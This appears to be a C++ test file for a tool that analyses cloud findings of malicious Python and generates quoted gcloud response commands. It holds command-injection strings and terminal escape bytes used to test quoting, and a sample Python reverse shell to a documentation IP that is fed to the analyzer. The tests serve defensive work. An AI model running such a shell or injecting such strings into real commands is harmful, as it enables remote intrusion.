#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <vector>

#include "finding/detector.h"
#include "finding/fields.h"
#include "finding/time.h"
#include "language/messages.h"
#include "language/tables.h"
#include "pyverdict.h"
#include "response/commands.h"
#include "response/plan.h"
#include "response/quoting.h"

namespace pyverdict::response {
namespace {

const std::vector<std::string> kHostile = {
    "plain",
    "",
    "'",
    "''",
    "it's",
    "\"",
    "a b  c",
    "$(touch /tmp/pyverdict-was-here)",
    "`touch /tmp/pyverdict-was-here`",
    "${HOME} $HOME $$ $1",
    "a\nb\n\nc",
    "\n",
    "trailing newline\n",
    "tab\there",
    "\r\n",
    "-rf",
    "--flag=value",
    "--",
    "; touch /tmp/pyverdict-was-here",
    "a && b || c | d > e < f &",
    "\\",
    "\\'",
    "a\\\nb",
    "!history !!",
    "~root",
    "=ls",
    "* ? [a-z] {a,b}",
    "#comment",
    "a=b",
    "\x01\x02\x1b[31m\x7f",
    "caf\xC3\xA9 \xE2\x80\xAE \xF0\x9F\x90\x8D",
    "not utf-8 \xFF\xFE",
    "' ; echo '",
    "'\\''",
    "projects/p/locations/l/services/s",
};

/// What a real shell makes of a command line: its words, read back from `printf`.
std::vector<std::string> words_of(const std::string& words) {
  // No two runs of the tests at a time may share it.
  std::string name = std::filesystem::temp_directory_path() / "pyverdict-quoting-XXXXXX";
  EXPECT_NE(mkdtemp(name.data()), nullptr);
  const std::filesystem::path folder = name;
  std::ofstream(folder / "script", std::ios::binary) << "printf '%s\\0' " << words << '\n';
  const std::string run = "sh '" + (folder / "script").string() + "' > '" + (folder / "out").string() + "'";
  EXPECT_EQ(std::system(run.c_str()), 0);
  std::ifstream in(folder / "out", std::ios::binary);
  const std::string out{std::istreambuf_iterator<char>(in), {}};
  std::filesystem::remove_all(folder);
  std::vector<std::string> found;
  for (std::size_t at = 0; at < out.size();) {
    const std::size_t end = out.find('\0', at);
    found.push_back(out.substr(at, end - at));
    at = end + 1;
  }
  return found;
}

TEST(Quoting, ARealShellReadsEveryValueAsItIs) {
  std::string line;
  for (const std::string& value : kHostile) line += ' ' + shell_word(value);
  EXPECT_EQ(words_of(line), kHostile);
  EXPECT_FALSE(std::filesystem::exists("/tmp/pyverdict-was-here"));
}

TEST(Quoting, FiltersKeepValuesInsideTheirQuotes) {
  EXPECT_EQ(filter_string("a\" OR \"b"), "\"a\\\" OR \\\"b\"");
  EXPECT_EQ(filter_string("\\"), "\"\\\\\"");
  EXPECT_EQ(filter_string("a\nb"), "\"a\\nb\"");
}

TEST(Quoting, WhatATerminalWouldTakeForKeysCannotBePasted) {
  for (const std::string_view safe : {"gcloud run", "'caf\xC3\xA9'", "\xF0\x9F\x90\x8D"})
    EXPECT_TRUE(can_be_pasted(safe)) << safe;
  // The end of a bracketed paste, line breaks, an interrupt, an override of the direction, a zero-width
  // space.
  for (const std::string_view unsafe : {"'\x1b[201~'", "'a\nb'", "'\r'", "'\x03'", "'\x7f'", "'\xC2\x9B'",
                                        "'\xE2\x80\xAE'", "'\xE2\x80\x8B'", "'\t'"})
    EXPECT_FALSE(can_be_pasted(unsafe)) << unsafe;
}

finding::Finding cloud_run(const std::string& resource) {
  finding::Finding finding;
  finding.name = "organizations/1/sources/2/locations/global/findings/abc";
  finding.category = std::string(finding::kMaliciousPython);
  finding.event_time = "2026-01-01T12:00:00Z";
  finding.resource.name = resource;
  finding.resource.cloud_run = finding::parse_cloud_run(resource);
  finding.resource.gke = finding::parse_gke(resource);
  return finding;
}

std::string text_of(const std::vector<report::Command>& commands, std::string_view id) {
  for (const report::Command& command : commands) {
    if (command.id == id) return command.text;
  }
  return {};
}

TEST(Commands, AreThoseOfTheResource) {
  const auto service =
      commands_for(cloud_run("//run.googleapis.com/projects/p/locations/europe-west1/services/shop"), {})
          .commands;
  EXPECT_EQ(text_of(service, "service-settings"),
            "gcloud run services describe shop --region=europe-west1 --project=p --format=yaml");
  EXPECT_EQ(text_of(service, "logs"),
            "gcloud logging read 'resource.type=\"cloud_run_revision\" AND "
            "resource.labels.service_name=\"shop\" AND "
            "resource.labels.location=\"europe-west1\" AND timestamp>=\"2026-01-01T11:00:00Z\" AND "
            "timestamp<=\"2026-01-01T13:00:00Z\"' --project=p --limit=1000 --format=json");
  EXPECT_EQ(text_of(service, "rollback"),
            "gcloud run services update-traffic shop --to-revisions=GOOD_REVISION=100 --region=europe-west1 "
            "--project=p");
  EXPECT_EQ(
      text_of(service, "related-findings"),
      "gcloud scc findings list organizations/1 --source=- --location=global --filter='state=\"ACTIVE\" AND "
      "resource.name:\"locations/europe-west1/services/shop\" AND event_time>=\"2026-01-01T11:00:00Z\" AND "
      "event_time<=\"2026-01-01T13:00:00Z\"' --format=json");
  EXPECT_EQ(text_of(service, "close-finding"),
            "gcloud scc findings update abc --organization=1 --source=2 --location=global --state=INACTIVE");
  EXPECT_EQ(text_of(service, "mute-rule"),
            "gcloud scc muteconfigs create RULE_ID --organization=1 --location=global "
            "--filter='category=\"Execution: Malicious Python executed\" AND "
            "resource.name:\"locations/europe-west1/services/shop\"' --type=dynamic");
  EXPECT_EQ(text_of(service, "job-settings"), "");

  const auto revision =
      commands_for(
          cloud_run("//run.googleapis.com/projects/p/locations/l/services/shop/revisions/shop-00007-abc"), {})
          .commands;
  EXPECT_EQ(text_of(revision, "delete-revision"),
            "gcloud run revisions delete shop-00007-abc --region=l --project=p");

  const auto job =
      commands_for(cloud_run("//run.googleapis.com/projects/p/locations/l/jobs/load/executions/load-x1"), {})
          .commands;
  EXPECT_EQ(text_of(job, "executions"), "gcloud run jobs executions list --job=load --region=l --project=p");
  EXPECT_EQ(text_of(job, "cancel-execution"),
            "gcloud run jobs executions cancel load-x1 --region=l --project=p");

  const auto pool =
      commands_for(cloud_run("//run.googleapis.com/projects/p/locations/l/workerPools/w"), {}).commands;
  EXPECT_EQ(text_of(pool, "pool-settings"),
            "gcloud run worker-pools describe w --region=l --project=p --format=yaml");

  finding::Finding pod = cloud_run("//container.googleapis.com/projects/p/zones/z/clusters/c");
  pod.pods.push_back({"web", "web-1"});
  EXPECT_EQ(text_of(commands_for(pod, {}).commands, "pod-logs"),
            "kubectl logs web-1 --namespace=web --all-containers --timestamps");
}

TEST(Commands, TellReadingFromChanging) {
  const std::set<std::string> reading = {"describe",        "list", "read", "get-iam-policy",
                                         "get-credentials", "logs"};
  for (const char* resource : {"services/s", "jobs/j", "workerPools/w"}) {
    bool changes = false;
    for (const report::Command& command :
         commands_for(cloud_run(std::string("//run.googleapis.com/projects/p/locations/l/") + resource), {})
             .commands) {
      bool reads = false;
      for (const std::string& word : words_of(command.text)) reads = reads || reading.contains(word);
      EXPECT_EQ(command.changes, !reads) << command.text;
      EXPECT_FALSE(changes && !command.changes) << "reading commands come first: " << command.text;
      changes = changes || command.changes;
      EXPECT_FALSE(command.purpose.empty());
    }
    EXPECT_TRUE(changes);
  }
}

TEST(Commands, KeepHostileNamesAsValues) {
  for (const std::string& value : kHostile) {
    if (value.empty() || value.find('/') != std::string::npos) continue;
    SCOPED_TRACE(value);
    const bool pasted = can_be_pasted(value);
    finding::Finding finding = cloud_run("//run.googleapis.com/projects/p/locations/l/services/s");
    finding.resource.cloud_run.name = value;
    finding.resource.cloud_run.project = value;
    finding.resource.cloud_run.location = value;
    finding.category = value;
    finding.name = "organizations/" + value + "/sources/2/findings/" + value;
    const CommandList list = commands_for(finding, {});
    EXPECT_EQ(pasted, list.unsafe == 0);
    for (const report::Command& command : list.commands) {
      EXPECT_TRUE(can_be_pasted(command.text)) << command.text;
      const std::vector<std::string> words = words_of(command.text);
      for (const std::string& word : words) {
        const bool option = word.size() > 1 && word[0] == '-' && word.find('=') == std::string::npos;
        EXPECT_FALSE(option && word != "--clear-tags") << command.text;
      }
      if (command.id == "service-settings") {
        EXPECT_EQ(words,
                  (std::vector<std::string>{"gcloud", "run", "services", "describe", value,
                                            "--region=" + value, "--project=" + value, "--format=yaml"}));
      }
    }
  }
}

report::Report report_of(std::string_view script) {
  Analysis analysis = analyze(script);
  return std::move(analysis.items.front().report);
}

TEST(Plan, FollowsWhatTheScriptDoes) {
  const report::Report shell = report_of(
      "import socket, os, subprocess\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n"
      "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', "
      "'-i'])\n");
  ASSERT_TRUE(shell.response);
  const auto has = [](const report::Report& report, std::string_view id) {
    for (const report::Step& step : report.response->steps) {
      if (step.id == id) return true;
    }
    return false;
  };
  EXPECT_TRUE(has(shell, "block-network"));
  EXPECT_TRUE(has(shell, "find-way-in"));
  EXPECT_FALSE(has(shell, "ask-owner")) << "there is no finding, so no resource with an owner";
  EXPECT_FALSE(has(shell, "check-billing"));
  EXPECT_FALSE(report_of("print(1)\n").response) << "nothing speaks of an attack";
}

TEST(Plan, AHarmlessLookingScriptOfAnIncidentIsContained) {
  const auto finding = [](std::string_view id, std::string_view category, std::string_view process) {
    return R"({"finding": {"name": "organizations/1/sources/2/findings/)" + std::string(id) +
           R"(", "category": ")" + std::string(category) +
           R"(", "eventTime": "2026-01-01T00:00:00Z", "containers": [{"name": "c1"}],
           "resourceName": "//run.googleapis.com/projects/p/locations/l/services/s", "processes": [)" +
           std::string(process) + "]}}";
  };
  const std::string script =
      finding("a", "Execution: Malicious Python executed",
              R"({"pid": "30", "script": {"path": "/tmp/a.py", "contents": "print('/tmp/tool')\n"}})");
  const std::string binary = finding("b", "Execution: Added Malicious Binary Executed",
                                     R"({"pid": "31", "parentPid": "30", "binary": {"path": "/tmp/tool"}})");
  const Analysis alone = analyze('[' + script + ']');
  const Analysis together = analyze('[' + script + ',' + binary + ']');
  const auto contained = [](const Analysis& analysis) {
    const auto& steps = analysis.items.front().report.response->steps;
    return std::any_of(steps.begin(), steps.end(), [](const auto& step) { return step.id == "roll-back"; });
  };
  EXPECT_FALSE(contained(alone));
  EXPECT_TRUE(contained(together));
}

TEST(Plan, EveryStepSaysWhyAndWhence) {
  const std::string finding =
      R"({"finding": {"name": "organizations/1/sources/2/findings/a", "category": "Execution: Malicious Python executed",
      "eventTime": "2026-01-01T00:00:00Z", "severity": "CRITICAL",
      "resourceName": "//run.googleapis.com/projects/p/locations/l/services/s",
      "processes": [{"name": "python3", "script": {"path": "/tmp/a.py", "contents": "print(1)\n"}}]}})";
  for (const auto language : {language::Language::English, language::Language::Portuguese}) {
    const Analysis analysis = analyze(finding, {.language = language});
    const report::Report& report = analysis.items.front().report;
    ASSERT_TRUE(report.response);
    std::set<std::string> ids;
    std::set<std::string> commands;
    for (const report::Command& command : report.response->commands) {
      EXPECT_TRUE(commands.insert(command.id).second) << command.id;
    }
    for (const report::Step& step : report.response->steps) {
      EXPECT_TRUE(ids.insert(step.id).second) << step.id;
      EXPECT_FALSE(step.title.empty() || step.reason.empty() || step.source.name.empty() ||
                   step.because.empty());
      for (const std::string& id : step.commands) EXPECT_TRUE(commands.contains(id)) << id;
    }
    EXPECT_TRUE(ids.contains("what-would-be-legitimate"));
    EXPECT_TRUE(ids.contains("mute-narrowly"));
    EXPECT_FALSE(ids.contains("roll-back")) << "a benign script is no reason to roll back";
    const std::string none(language::text(language::Message::NoteNoRelated, language));
    EXPECT_NE(std::find(report.response->notes.begin(), report.response->notes.end(), none),
              report.response->notes.end());
  }
}

TEST(Commands, SayWhereTheyAreDescribedAndWhatIsInferred) {
  const auto source = [](const std::vector<report::Command>& commands, std::string_view id) {
    for (const report::Command& command : commands) {
      if (command.id == id) return command.source;
    }
    return report::Source();
  };
  finding::Finding pod = cloud_run("//container.googleapis.com/projects/p/zones/z/clusters/c");
  pod.pods.push_back({"web", "web-1"});
  std::vector<std::vector<report::Command>> all = {commands_for(pod, {}).commands};
  for (const char* resource :
       {"services/s", "services/s/revisions/r", "jobs/j", "jobs/j/executions/e", "workerPools/w"}) {
    all.push_back(
        commands_for(cloud_run("//run.googleapis.com/projects/p/locations/l/" + std::string(resource)), {})
            .commands);
  }
  for (const auto& commands : all) {
    for (const report::Command& command : commands) {
      // "gcloud run jobs describe" of "gcloud run jobs describe 'load' --region=...".
      const std::size_t of = command.source.name.find(" of ");
      ASSERT_NE(of, std::string::npos) << command.id << ": " << command.source.name;
      const std::string name = command.source.name.substr(of + 4, command.source.name.find(';') - of - 4);
      EXPECT_TRUE(command.text.starts_with(name + ' ')) << command.text << " is no " << name;
      EXPECT_TRUE(command.source.url.starts_with("https://cloud.google.com/sdk/gcloud/reference/") ||
                  command.source.url.starts_with("https://kubernetes.io/docs/reference/kubectl/"))
          << command.source.url;
    }
    EXPECT_EQ(source(commands, "logs").documented, &commands == &all[1] || &commands == &all[2]);
  }
  EXPECT_FALSE(source(all[1], "audit-logs").documented);
  EXPECT_TRUE(source(all[1], "rollback").documented);
  EXPECT_EQ(source(all[1], "rollback").url,
            "https://cloud.google.com/sdk/gcloud/reference/run/services/update-traffic");
}

TEST(Detectors, AreKnownByNameModuleAndMeaning) {
  EXPECT_EQ(finding::detectors().size(), 50u);
  for (const finding::Detector& detector : finding::detectors()) {
    finding::Finding finding;
    finding.category = detector.category;
    EXPECT_EQ(finding::detector_of(finding), &detector);
    finding.category = "Something else";
    finding.module_name = detector.container.empty() ? detector.cloud_run : detector.container;
    EXPECT_EQ(finding::detector_of(finding), &detector);
    for (const auto language : {language::Language::English, language::Language::Portuguese})
      EXPECT_FALSE(language::detector_meaning(detector.category, language).empty()) << detector.category;
  }
}

TEST(Times, AreReadAsFindingsWriteThem) {
  using finding::parse_time;
  EXPECT_EQ(parse_time("1970-01-01T00:00:00Z"), 0);
  EXPECT_EQ(parse_time("2026-01-01T00:00:00.123456789Z"), 1'767'225'600'123);
  EXPECT_EQ(parse_time("2026-01-01T01:00:00+01:00"), 1'767'225'600'000);
  EXPECT_EQ(parse_time("2026-01-01 00:00:00 UTC"), 1'767'225'600'000);
  EXPECT_EQ(parse_time("2026-01-01 00:00:00"), 1'767'225'600'000);
  EXPECT_EQ(parse_time("2024-02-29T12:00:00.5Z"), 1'709'208'000'500);
  for (const char* text : {"", "yesterday", "2026-13-01T00:00:00Z", "2026-01-01", "2026-01-01T00:00:00Zx",
                           "2026-01-01T00:00:00+x", "99999999999999999999"}) {
    EXPECT_EQ(parse_time(text), std::nullopt) << text;
  }
  for (const std::int64_t time :
       {std::int64_t{0}, std::int64_t{951'782'400'000}, std::int64_t{1'767'225'600'123}}) {
    EXPECT_EQ(parse_time(finding::format_time(time)), time);
  }
}

}  // namespace
}  // namespace pyverdict::response
